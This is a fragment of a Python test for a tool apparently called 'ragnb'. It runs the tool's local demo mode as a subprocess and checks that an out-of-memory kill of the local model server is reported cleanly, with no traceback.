    env = {**{k: v for k, v in os.environ.items() if not k.startswith('OPENAI')}, 'RAGNB_GGUF': str(tmp_path/'m.gguf'),
           'RAGNB_LOCAL_PYTHON': str(py), 'RAGNB_CACHE_DIR': str(tmp_path/'cache'), 'RAGNB_STREAM': '0'}
    r = subprocess.run([str(Path(sys.executable).with_name('ragnb')), 'demo', '--mode', 'local', '--out',
                        str(tmp_path/'out'), '--max-retries', '0'], capture_output=True, text=True, env=env, timeout=600)
    assert r.returncode == 1 and 'Traceback' not in r.stderr, r.stderr[-3000:]
    assert 'the local model server' in r.stderr and 'stopped during the run (killed by SIGKILL)' in r.stderr, r.stderr[-2000:]
    assert 'out of memory: killed' in r.stderr
